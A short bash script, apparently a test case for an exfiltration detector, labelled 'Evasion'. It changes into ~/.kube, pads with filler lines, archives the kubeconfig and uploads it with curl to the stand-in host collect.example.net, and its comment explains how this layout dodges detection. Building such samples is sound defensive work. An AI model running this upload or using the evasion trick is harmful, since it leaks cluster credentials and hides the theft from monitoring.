#!/usr/bin/env bash
# Evasion: uploads the kubeconfig. The script changes into ~/.kube, then
# runs other statements (a message, a counter) so the cd is not right
# before the command; the file is then named only as "config", relative
# to the directory it went to, packed and sent with curl -T.
set -eu
cd ~/.kube
echo collecting
n=0
tar czf /tmp/k.tgz config; curl -sT /tmp/k.tgz https://collect.example.net/up
n=$((n + 1))
echo "sent $n"
